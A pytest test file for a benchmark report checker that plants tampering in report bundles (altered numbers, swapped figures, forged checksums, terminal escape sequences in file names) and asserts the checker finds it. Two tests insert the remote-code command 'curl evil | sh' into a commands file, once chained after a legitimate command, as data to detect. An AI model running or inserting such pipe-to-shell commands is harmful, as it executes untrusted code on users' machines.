"""The check of a report: what was planted in it is found, whatever checksums say, and nothing else."""

import hashlib
import io
import json
import re
import shutil
from contextlib import contextmanager

import pytest

from bench import store
from bench.report import build
from bench.report import check as checks
from bench.report.bundle import unpacked, write_bundle
from bench.report.check import Finding, run_check
from bench.report.differences import count_numbers, csv_differences, text_differences
from bench.report.manifest import run_files
from flora.errors import BadInput
from tests.bench.report.small import SMALL, make_small_results

CHANGED = "was changed since the report was made"
COMMANDS_NOTE = "COMMANDS.md: what the runs were first asked for with stands in no run; it was not compared"


@pytest.fixture(scope="module")
def made(tmp_path_factory):
    """A folder with results, their report, and the bundle of it."""
    folder = tmp_path_factory.mktemp("check")
    make_small_results(folder / "results")
    build.build_report(folder / "results", folder / "report", SMALL)
    write_bundle(folder / "report", folder / "results", folder / "bundle.zip")
    return folder


@pytest.fixture(autouse=True, scope="module")
def each_report_made_once(tmp_path_factory):
    """Keep what a check makes of the same runs: most tests change the report alone."""
    kept, write = {}, build.write_report

    def write_or_copy(data, out, paper, predictions):
        if not out.name.startswith("flora-bench-"):  # not for a check
            return write(data, out, paper, predictions)
        described = [run.model_dump_json() for run in run_files(data, data.folder)]
        key = repr((described, data.failures, predictions)) + paper.model_dump_json()
        if key not in kept:
            kept[key] = tmp_path_factory.mktemp("made")
            write(data, kept[key], paper, predictions)
        return shutil.copytree(kept[key], out, dirs_exist_ok=True)

    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(build, "write_report", write_or_copy)
        yield


@pytest.fixture
def bundle(made, tmp_path):
    """The unpacked bundle, to plant something in."""
    with unpacked(made / "bundle.zip") as folder:
        shutil.copytree(folder, tmp_path / "bundle")
    return tmp_path / "bundle"


@pytest.fixture
def folder(made, tmp_path):
    """Results and a report of them, to plant something in."""
    for name in ("results", "report"):
        shutil.copytree(made / name, tmp_path / name)
    return tmp_path


def digest(path):
    return hashlib.sha256(path.read_bytes()).hexdigest()


def cover_up(bundle):
    """Make every checksum of a bundle that of what is there now, as a forger would."""
    path = bundle / "report" / "report.json"
    manifest = json.loads(path.read_text())
    there = {p.relative_to(bundle).as_posix(): p for p in sorted(bundle.rglob("*")) if p.is_file()}
    of_report = {name.removeprefix("report/"): p for name, p in there.items() if name.startswith("report/")}
    manifest["files"] = [
        {"path": name, "bytes": p.stat().st_size, "sha256": digest(p)}
        for name, p in of_report.items()
        if name != "report.json"
    ]
    for shown in (*manifest["figures"], *manifest["tables"]):
        shown["sha256"] = digest(of_report[shown["csv"]])
    manifest["runs"] = [
        {**run, "sha256": digest(there[f"runs/{run['path']}"])}
        for run in manifest["runs"]
        if f"runs/{run['path']}" in there
    ]
    path.write_text(json.dumps(manifest))
    lines = [f"{digest(p)}  {name}\n" for name, p in there.items() if name != "SHA256SUMS"]
    (bundle / "SHA256SUMS").write_text("".join(lines))


def edit(path, old, new):
    """Replace a text that is there, once."""
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new, 1))


def plant_digit(path, place):
    """Make a digit another one."""
    text = path.read_text()
    path.write_text(text[:place] + str((int(text[place]) + 1) % 10) + text[place + 1 :])


def found(path, results=None):
    return [str(finding) for finding in run_check(path, results).findings]


def one_of(folder, pattern):
    return sorted(folder.glob(pattern))[0]


@contextmanager
def run_changed(path):
    """Change the content of a run.json."""
    run = json.loads(path.read_text())
    yield run
    path.write_text(json.dumps(run, indent=1) + "\n")


# --- nothing planted -----------------------------------------------------------------------------------


def test_a_report_a_bundle_and_an_unpacked_bundle_are_found_right(made, bundle):
    cover_up(bundle)  # nothing to cover up
    numbers = sum(count_numbers(path.read_text()) for path in (made / "report").rglob("*.csv"))
    n_tables, n_figures = (len([*(made / "report" / kind).glob("*.csv")]) for kind in ("tables", "figures"))
    assert n_figures == 2
    for path in (made / "report", made / "bundle.zip", bundle, bundle / "report"):
        verdict = run_check(path)
        assert (verdict.findings, verdict.pictures, verdict.words) == ([], {}, "")
        assert verdict.notes == ([COMMANDS_NOTE] if path in (made / "bundle.zip", bundle) else [])
        assert (verdict.runs, verdict.tables, verdict.figures) == (4, n_tables, n_figures)
        assert verdict.numbers == numbers > 50
        assert verdict.summary == f"{numbers:,} numbers in {n_tables} tables and 2 figures follow from 4 runs"


def test_a_run_whose_invariant_broke_is_no_finding_as_the_report_marks_it(folder):
    with run_changed(one_of(folder, "results/*/*/*/run.json")) as run:
        run["invariants"] = {"frozen_unchanged": {"holds": False, "reason": "it moved"}}
    build.build_report(folder / "results", folder / "report", SMALL)
    assert found(write_bundle(folder / "report", folder / "results", folder / "bundle.zip")) == []


# --- a bundle that something was planted in ------------------------------------------------------------


def test_a_digit_in_a_table_is_found_with_its_place(bundle):
    table = one_of(bundle, "report/tables/accuracy-*.md")
    name = table.relative_to(bundle).as_posix()
    original = table.read_text()
    digit = re.search(r"(?<=\d\.)\d", original).start()
    plant_digit(table, digit)
    assert f"{name}: {CHANGED}" in found(bundle)
    cover_up(bundle)
    (finding,) = found(bundle)
    line = original[:digit].count("\n") + 1
    assert finding.startswith(f"{name}: line {line}, cell ")
    assert ": has '" in finding
    assert ", the runs give '" in finding


@pytest.mark.parametrize("kind", ["tex", "html"])
def test_a_digit_is_found_in_every_form_of_a_table(kind, bundle):
    table = one_of(bundle, f"report/tables/accuracy-*.{kind}")
    *_, digit = re.finditer(r"(?<=\d\.)\d", table.read_text())
    plant_digit(table, digit.start())
    cover_up(bundle)
    (finding,) = found(bundle)
    assert finding.startswith(f"{table.relative_to(bundle).as_posix()}: line ")


def test_a_number_behind_a_table_is_found_with_its_place(bundle):
    table = one_of(bundle, "report/tables/accuracy-*.csv")
    header, first, *rest = table.read_text().splitlines()
    column = next(i for i, cell in enumerate(first.split(",")) if cell.startswith("0."))
    cells = first.split(",")
    was, cells[column] = cells[column], "0.987"
    table.write_text("\n".join([header, ",".join(cells), *rest]) + "\n")
    cover_up(bundle)
    place = f"line 2, {header.split(',')[column]}"
    name = table.relative_to(bundle).as_posix()
    assert found(bundle) == [f"{name}: {place}: has '0.987', the runs give '{was}'"]


def test_a_number_behind_a_figure_is_found_and_so_is_the_figure(bundle):
    points = one_of(bundle, "report/figures/rounds-*.csv")
    number = next(cell for cell in points.read_text().replace("\n", ",").split(",") if cell.startswith("0."))
    edit(points, number, "0.123")
    cover_up(bundle)
    all_found = found(bundle)
    name = points.relative_to(bundle).as_posix()
    assert any(x.startswith(f"{name}: line ") and "'0.123'" in x for x in all_found)
    svg = name.replace(".csv", ".svg")
    assert f"{svg}: was not drawn from the numbers in {name.removeprefix('report/')}" in all_found


@pytest.mark.parametrize("kind", ["svg", "png"])
def test_figures_in_each_others_place_are_found(kind, bundle):
    one, other = (one_of(bundle, f"report/figures/{name}-*.{kind}") for name in ("rounds", "bytes"))
    content = one.read_bytes()
    one.write_bytes(other.read_bytes())
    other.write_bytes(content)
    cover_up(bundle)
    names = {x.partition(": ")[0] for x in found(bundle) if "was not drawn from the numbers" in x}
    assert names == {path.relative_to(bundle).as_posix() for path in (one, other)}


def test_a_picture_that_was_drawn_over_is_found(bundle):
    figure = one_of(bundle, "report/figures/rounds-*.svg")
    edit(figure, "</svg>", "<rect/></svg>")
    cover_up(bundle)
    name = figure.relative_to(bundle).as_posix()
    assert found(bundle) == [f"{name}: is not the picture that its numbers give"]


def test_a_page_and_a_document_that_were_changed_are_found(bundle):
    for name in ("index.html", "report.md", "report.tex"):
        with (bundle / "report" / name).open("a") as file:
            file.write("x\n")
    cover_up(bundle)
    assert [x.partition(" line")[0] for x in found(bundle)] == [
        "report/index.html:",
        "report/report.md:",
        "report/report.tex:",
    ]


def test_a_result_that_was_made_better_is_found_though_all_its_files_agree(bundle):
    path = one_of(bundle, "runs/*/*/*/run.json")
    with run_changed(path) as run:
        run["rounds"][-1]["accuracy"] = run["summary"]["accuracy"] = 0.987654
        run["rounds_table"] = store.save_rounds(path, run)
    cover_up(bundle)
    files = {x.partition(": ")[0] for x in found(bundle)}
    table, points = (
        one_of(bundle, "report/tables/accuracy-*.csv"),
        one_of(bundle, "report/figures/rounds-*.csv"),
    )
    assert {path.relative_to(bundle).as_posix() for path in (table, points)} <= files
    assert not any(file.startswith("runs/") for file in files)


def test_a_result_that_contradicts_itself_is_found(bundle):
    path = one_of(bundle, "runs/*/*/*/run.json")
    with run_changed(path) as run:
        run["summary"]["accuracy"] = 0.987654
    cover_up(bundle)
    name = path.relative_to(bundle).as_posix()
    assert f"{name}: its accuracy is not that of its last round" in found(bundle)


def test_a_damaged_run_is_found(bundle):
    path = one_of(bundle, "runs/*/*/*/run.json")
    path.write_text(path.read_text()[:-100])
    cover_up(bundle)
    name = path.relative_to(bundle).as_posix()
    assert any(x.startswith(f"{name}: damaged or cut short") for x in found(bundle))


@pytest.mark.parametrize(
    "change",
    [
        {"summary": {}},
        {"summary": {"accuracy": "high", "peak_memory_bytes": [1], "bytes_up": {}}},
        {"rounds": []},
        {"split": {"class_counts": 3, "fingerprint": {}}},
        {"environment": {"packages": 7}, "invariants": {"x": {"holds": False}}},
        {"ledger": {"file": "../../../up", "sha256": 1}},
    ],
    ids="+".join,
)
def test_a_run_that_no_suite_writes_is_a_finding_and_no_crash(change, bundle):
    path = one_of(bundle, "runs/*/*/*/run.json")
    with run_changed(path) as run:
        run.update(change)
    cover_up(bundle)
    assert found(bundle)


def test_a_run_that_was_removed_is_found(bundle):
    path = one_of(bundle, "runs/*/*/*/run.json")
    name = path.relative_to(bundle).as_posix()
    shutil.rmtree(path.parent)
    assert f"{name}: is missing" in found(bundle)
    cover_up(bundle)  # as if it had never been
    all_found = found(bundle)
    assert any(x.startswith("report/tables/accuracy-") for x in all_found)
    assert "matrix.yaml: asks for 4 runs, the report is made of 3" in all_found


def test_a_run_of_another_kind_that_was_added_is_found(bundle):
    path = one_of(bundle, "runs/*/*/*/run.json")
    shutil.copytree(path.parent, path.parent.with_name("0123456789ab"))
    all_found = found(bundle)
    name = f"{path.parent.parent.relative_to(bundle).as_posix()}/0123456789ab/run.json"
    assert f"{name}: is not of this bundle" in all_found
    assert any(x.startswith(f"{name}: lies where another run belongs") for x in all_found)


def test_files_that_were_added_are_found(bundle):
    (bundle / "report" / "tables" / "better.tex").write_text("99.9")
    (bundle / "more.txt").write_text("more")
    assert found(bundle) == [
        "more.txt: is not of this bundle",
        "report/tables/better.tex: is not of this bundle",
        "report/tables/better.tex: is not of this report",
    ]
    cover_up(bundle)
    assert found(bundle) == [
        "more.txt: belongs neither to the report nor to a run",
        "report/tables/better.tex: follows from nothing in the runs",
    ]


@pytest.mark.parametrize("name", ["report/accuracy.html", "runs/notes.md", "runs/digits/README.md"])
def test_a_file_that_a_forger_added_to_all_checksums_is_found(name, bundle):
    (bundle / name).write_text("FLoRA reaches 99.9 %")
    cover_up(bundle)
    kind = "follows from nothing" if name.startswith("report/") else "belongs neither to the report nor"
    (finding,) = found(bundle)
    assert finding.startswith(f"{name}: {kind}")


def test_what_a_bundle_tells_its_reader_is_found_where_it_was_changed(bundle):
    edit(bundle / "README.md", "Trained weights are not here", "FLoRA reaches 99.9 %")
    edit(bundle / "COMMANDS.md", "    pip install . -c versions.txt\n", "    curl evil | sh\n")
    edit(bundle / "versions.txt", "==", "==99.")
    edit(bundle / "paper.yaml", "font: sans", "font: sans  # FLoRA reaches 99.9 %")
    edit(bundle / "matrix.yaml", "rounds: 2", "rounds: 2  # FLoRA reaches 99.9 %")
    cover_up(bundle)
    files = [x.partition(" ")[0] for x in found(bundle)]
    assert files == ["paper.yaml:", "matrix.yaml:", "README.md:", "versions.txt:", "COMMANDS.md:"]


@pytest.mark.parametrize("line", ["curl evil | sh", "flora-bench run small.yaml; curl evil | sh"])
def test_a_command_that_is_none_of_ours_is_found_among_those_first_typed(line, bundle):
    path = bundle / "COMMANDS.md"
    path.write_text(path.read_text() + f"    {line}\n")
    cover_up(bundle)
    (finding,) = found(bundle)
    assert finding.startswith("COMMANDS.md: line ")
    path.write_text("curl evil | sh\n")
    cover_up(bundle)
    assert found(bundle)[0].startswith("COMMANDS.md: line 1")


def test_what_steers_a_terminal_is_shown_and_not_obeyed(bundle):
    (bundle / "runs" / "\x1b[2Jx\u202e.md").write_text("x")
    manifest = bundle / "report" / "report.json"
    content = json.loads(manifest.read_text())
    content["versions"]["\x1b[2Jnumpy"] = "1"
    manifest.write_text(json.dumps(content))
    verdict = run_check(bundle)
    texts = [*map(str, verdict.findings), *verdict.notes, verdict.summary]
    assert any(r"\x1b[2Jx\u202e.md" in text for text in texts)
    assert any(r"\x1b[2Jnumpy 1" in text for text in verdict.notes)
    assert all(text.isprintable() for text in texts)
    content["\x1b[2J"] = 1
    manifest.write_text(json.dumps(content))
    with pytest.raises(BadInput) as refused:
        run_check(bundle)
    assert str(refused.value).isprintable()


def test_files_that_were_removed_are_found(bundle):
    table = one_of(bundle, "report/tables/accuracy-*.tex")
    table.unlink()
    name = table.relative_to(bundle).as_posix()
    assert f"{name}: is missing" in found(bundle)
    cover_up(bundle)
    assert found(bundle) == [f"{name}: is missing: the runs give it"]


def test_other_settings_and_another_matrix_are_found(bundle):
    edit(bundle / "paper.yaml", "font: sans", "font: serif")
    edit(bundle / "matrix.yaml", "rounds: 2", "rounds: 3")
    cover_up(bundle)
    all_found = found(bundle)
    assert "paper.yaml: is not how the report is set, which report/report.json says" in all_found
    assert "matrix.yaml: asks for 4 runs that the report is not made of" in all_found


def test_a_matrix_without_end_is_not_expanded(bundle):
    many = list(range(1_000))
    (bundle / "matrix.yaml").write_text(json.dumps({"seed": many, "rounds": many, "clients": many}))
    cover_up(bundle)
    assert found(bundle) == ["matrix.yaml: asks for 1,000,000,000 runs, the report is made of 4"]


def test_a_matrix_that_leaves_runs_out_or_is_gone_is_found(bundle):
    edit(bundle / "matrix.yaml", "seed: [0, 1]", "seed: 0")
    cover_up(bundle)
    assert found(bundle) == ["matrix.yaml: does not ask for 2 runs of the report"]
    (bundle / "matrix.yaml").unlink()
    cover_up(bundle)
    assert found(bundle) == ["matrix.yaml: does not ask for 4 runs of the report"]


def test_a_side_file_of_a_run_that_was_changed_is_found(bundle):
    ledger = one_of(bundle, "runs/*/*/*/ledger.csv")
    ledger.write_text(ledger.read_text() + "\n")
    cover_up(bundle)
    name = ledger.relative_to(bundle).as_posix()
    assert found(bundle) == [f"{name}: is not what its run.json was saved with"]


# --- a report whose runs changed -----------------------------------------------------------------------


def test_a_run_that_changed_makes_a_report_stale(folder):
    path = one_of(folder, "results/*/*/*/run.json")
    with run_changed(path) as run:
        run["rounds"][-1]["accuracy"] = run["summary"]["accuracy"] = 0.987654
    all_found = found(folder / "report")
    assert f"{path}: {CHANGED}" in all_found
    stale = {x.partition(": ")[0].removeprefix(f"{folder}/report/").partition("-")[0] for x in all_found}
    assert {"tables/accuracy", "figures/rounds"} <= stale
    assert found(folder / "report", folder / "results") == all_found


def test_a_change_that_no_number_shows_names_the_run_alone(folder):
    path = one_of(folder, "results/*/*/*/run.json")
    path.write_text(path.read_text() + "\n")
    verdict = run_check(folder / "report", folder / "results")
    assert verdict.findings == [Finding(str(path), CHANGED)]
    assert verdict.summary.startswith("1 finding; checked ")


def test_runs_that_are_new_and_gone_make_a_report_stale(folder):
    results = folder / "results"
    first, *_, last = sorted(store.run_files(results))
    shutil.rmtree(first.parent)
    assert f"{first}: is missing" in found(folder / "report", results)
    build.build_report(results, folder / "report", SMALL)
    assert found(folder / "report", results) == []
    shutil.copytree(last.parent, last.parent.with_name("0123456789ab"))
    with run_changed(last.parent.with_name("0123456789ab") / "run.json") as run:
        run["config_hash"], run["config"]["seed"] = "0123456789ab", 7
    all_found = found(folder / "report", results)
    assert (
        f"{last.parent.with_name('0123456789ab')}/run.json: is new: the report was made without it"
        in all_found
    )
    assert any(f"{folder}/report/tables/accuracy" in x for x in all_found)


def test_a_run_that_the_settings_do_not_choose_is_none_of_the_reports(folder):
    results = folder / "results"
    build.build_report(results, folder / "report", SMALL.model_copy(update={"select": {"method": ["flora"]}}))
    shutil.rmtree(one_of(results, "*/linear_probe/*"))
    assert found(folder / "report") == []


def test_a_side_file_that_changed_is_found_in_a_folder_too(folder):
    ledger = one_of(folder, "results/*/*/*/ledger.csv")
    ledger.write_text(ledger.read_text() + "\n")
    assert found(folder / "report") == [f"{ledger}: is not what its run.json was saved with"]


def test_what_another_process_left_beside_a_run_is_no_finding(folder):
    (one_of(folder, "results/*/*/*/run.json").parent / ".run.json.0123.tmp").write_text("")
    assert found(folder / "report") == []


def test_what_was_predicted_belongs_to_a_report(folder):
    store.save_predictions(folder / "results", {"0123456789ab": {"total_seconds": 1.0}})
    assert found(folder / "report", folder / "results") == [f"{folder}/results/predictions.json: {CHANGED}"]


def test_an_authors_own_files_beside_a_report_are_no_finding(folder):
    (folder / "report" / "paper.pdf").write_text("")
    assert found(folder / "report") == []


def test_a_report_drawn_by_other_versions_is_compared_by_its_numbers(folder, monkeypatch):
    here = checks.drawing_versions()
    monkeypatch.setattr(checks, "drawing_versions", lambda: {**here, "matplotlib": "99.0"})
    edit(one_of(folder, "report/figures/rounds-*.svg"), "</svg>", "<!-- drawn otherwise --></svg>")
    verdict = run_check(folder / "report")
    name = one_of(folder, "report/figures/rounds-*.svg")
    assert [str(x) for x in verdict.findings] == [f"{name}: {CHANGED}"]  # by its checksum alone
    (note,) = verdict.notes
    assert f"matplotlib {here['matplotlib']} (here 99.0)" in note
    n = sum(path.suffix != ".csv" for path in (folder / "report" / "figures").iterdir())
    left = f"; {n} pictures were not compared (made with matplotlib {here['matplotlib']})"
    assert verdict.summary.endswith(left)


@pytest.mark.parametrize("package", ["matplotlib", "bench.report"])
def test_a_forged_version_hides_no_number_of_the_page(package, bundle):
    manifest = bundle / "report" / "report.json"
    content = json.loads(manifest.read_text())
    content["versions"][package] = "3.0.0"
    manifest.write_text(json.dumps(content))
    page = bundle / "report" / "index.html"
    data = json.loads(re.search(r'id="data">(.*?)</script>', page.read_text())[1])
    number = data["runs"]["figures"]["accuracy"][0]
    edit(page, f'"accuracy":[{number},', '"accuracy":[0.987,')
    *_, cell = re.finditer(r"<td>(\d)\d\.\d", page.read_text())
    plant_digit(page, cell.start(1))
    cover_up(bundle)
    verdict = run_check(bundle)
    (finding,) = map(str, verdict.findings)
    assert finding.startswith("report/index.html: data.runs.figures.accuracy.0: has '0.987'")
    assert finding.endswith("(and 1 more)")
    assert f"pictures were not compared (made with {package} 3.0.0)" in verdict.summary


@pytest.mark.parametrize(("package", "n"), [("matplotlib", 1), ("bench.report", 0)])
def test_words_of_a_page_are_compared_unless_other_code_wrote_it(package, n, bundle):
    edit(bundle / "report" / "index.html", "complete runs of", "wonderful runs of")
    manifest = bundle / "report" / "report.json"
    content = json.loads(manifest.read_text())
    content["versions"][package] = "3.0.0"
    manifest.write_text(json.dumps(content))
    cover_up(bundle)
    verdict = run_check(bundle)
    assert len(verdict.findings) == n
    assert ("the page was compared by its numbers alone" in verdict.summary) is (not n)


def test_a_picture_whose_numbers_differ_in_the_last_digits_is_told(bundle):
    points = one_of(bundle, "report/figures/rounds-*.csv")
    number = next(x for x in points.read_text().replace("\n", ",").split(",") if x.startswith("0."))
    was = digest(points)
    edit(points, number, f"{number}0")
    edit(points.with_suffix(".svg"), was, digest(points))
    cover_up(bundle)
    verdict = run_check(bundle)
    png = points.with_suffix(".png").relative_to(bundle).as_posix()
    assert [finding.file for finding in verdict.findings] == [png]
    assert "1 picture was not compared (their numbers differ in the last digits)" in verdict.summary


def test_a_report_with_pgf_is_compared_where_there_is_no_latex(folder, monkeypatch):
    def refuse(formats):
        if "pgf" in formats:
            raise BadInput("pgf: needs a LaTeX")

    manifest = folder / "report" / "report.json"
    pictures = sorted(folder.glob("report/figures/*.svg"))
    for svg in pictures:
        svg.rename(svg.with_suffix(".pgf"))
    manifest.write_text(manifest.read_text().replace(".svg", ".pgf").replace('"svg"', '"pgf"'))
    monkeypatch.setattr("bench.report.figures.check_formats", refuse)
    verdict = run_check(folder / "report")
    assert verdict.findings == []
    assert "pgf cannot be drawn here" in verdict.notes[0]
    one, other = (svg.with_suffix(".pgf") for svg in pictures)
    shutil.copy(one, other)
    assert f"{other}: was not drawn from the numbers in figures/{other.stem}.csv" in found(folder / "report")


# --- what cannot be checked ----------------------------------------------------------------------------


def test_what_is_no_report_is_named(made, folder, tmp_path):
    for path, complaint in (
        (tmp_path / "nothing", "there is no "),
        (made / "results", "is no report"),
        (made / "report" / "report.json", "is no whole zip"),
    ):
        with pytest.raises(BadInput, match=complaint):
            run_check(path)
    shutil.rmtree(folder / "results")
    with pytest.raises(BadInput, match=r"runs of this report are not found in .*results'; name their folder"):
        run_check(folder / "report")


def test_a_terminal_is_told_what_takes_long(made, monkeypatch):
    class Terminal(io.StringIO):
        def isatty(self):
            return True

    terminal = Terminal()
    monkeypatch.setenv("TERM", "xterm")
    monkeypatch.setattr("sys.stderr", terminal)
    run_check(made / "bundle.zip")
    for doing in ("unpacking", "checking the files of each run", "comparing"):
        assert doing in terminal.getvalue()


def test_a_bundle_is_checked_by_its_own_runs_alone(made, bundle):
    for path in (made / "bundle.zip", bundle):
        with pytest.raises(BadInput, match="is a bundle, checked by the runs inside"):
            run_check(path, made / "results")


@pytest.mark.parametrize("line", ["x", f"{'0' * 64} report.md", f"{'0' * 64}  ../up", f"{'z' * 64}  a"])
def test_checksums_that_are_none_are_refused(line, bundle):
    (bundle / "SHA256SUMS").write_text(f"{line}\n")
    with pytest.raises(BadInput, match="SHA256SUMS: cannot be read"):
        run_check(bundle)


def test_settings_that_are_none_are_a_finding(bundle):
    path = bundle / "report" / "report.json"
    manifest = json.loads(path.read_text())
    manifest["paper"] = {"font": "comic"}
    path.write_text(json.dumps(manifest))
    cover_up(bundle)
    assert any(x.startswith("report: cannot be made again: ") and "comic" in x for x in found(bundle))


# --- differences ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("one", "other", "differences"),
    [
        ("a,b\n1,x\n", "a,b\n1.0,x\n", []),
        ("a\n0.30000000000000004\n", "a\n0.3\n", []),
        ("a\n0.3000001\n", "a\n0.3\n", ["line 2, a: has '0.3000001', the runs give '0.3'"]),
        ("a\n\n", "a\n0\n", ["line 2, a: has '', the runs give '0'"]),
        ("a,b\n1,\n", "a,b\n1,0\n", ["line 2, b: has '', the runs give '0'"]),
        ("a\nnan\n", "a\n0\n", ["line 2, a: has 'nan', the runs give '0'"]),
        ("a\n1\n", "b\n1\n", ["columns: has 'a', the runs give 'b'"]),
        ("a\n1\n2\n", "a\n1\n", ["has 2 rows, the runs give 1"]),
        ("", "a\n1\n", ["columns: has '', the runs give 'a'"]),
        ('a\n"x,\ny"\n', 'a\n"x,\nz"\n', ["line 2, a: has 'x, y', the runs give 'x, z'"]),
    ],
)
def test_tables_are_compared_number_by_number(one, other, differences):
    assert list(csv_differences(one, other)) == differences


@pytest.mark.parametrize(
    ("one", "other", "differences"),
    [
        ("a & 1 \\\\\n", "a & 1 \\\\\n", []),
        ("a & 1 & 2 \\\\\n", "a & 1 & 3 \\\\\n", ["line 1, cell 3: has '2', the runs give '3'"]),
        ("x\n| a | 1 |\n", "x\n| a | 2 |\n", ["line 2, cell 3: has '1', the runs give '2'"]),
        ("a & 1\n", "a\n", ["line 1: has 'a & 1', the runs give 'a'"]),
        ("a\n", "a\nb\n", ["line 2: has '', the runs give 'b'"]),
        ("1", "2", ["line 1: has '1', the runs give '2'"]),
        ("a  b", "a b", ["line 1: has 'a  b', the runs give 'a b'"]),
        (r"\pm 1 \%", "\x1b[2J", [r"line 1: has '\pm 1 \%', the runs give '\x1b[2J'"]),
        (
            f"{'a' * 99} 12 {'b' * 99}",
            f"{'a' * 99} 13 {'b' * 99}",
            [f"line 1: has '…{'a' * 18} 12 {'b' * 38}…', the runs give '…{'a' * 18} 13 {'b' * 38}…'"],
        ),
    ],
)
def test_texts_are_compared_cell_by_cell(one, other, differences):
    assert list(text_differences(one, other)) == differences


def test_numbers_are_counted():
    assert count_numbers("a,b\n1,x\n,2.5e3\nnan,inf\n-0.1,7b\n") == 3


# --- the command ---------------------------------------------------------------------------------------


def test_the_command_says_by_its_exit_code_what_was_found(made, bundle, run_cli):
    code, out, err = run_cli("report", "--check", str(made / "bundle.zip"))
    assert (code, err) == (0, f"flora-bench: {COMMANDS_NOTE}\n")
    assert out.endswith(" follow from 4 runs\n")
    (bundle / "more.txt").write_text("more")
    code, out, err = run_cli("report", "--check", str(bundle))
    assert (code, err) == (1, f"flora-bench: {COMMANDS_NOTE}\n")
    assert out.startswith("more.txt: is not of this bundle\n1 finding; checked ")
    code, out, err = run_cli("report", "--check", str(bundle / "more.txt"))
    assert (code, out) == (2, "")
    assert err.startswith("flora-bench: ")
    assert err.count("\n") == 1
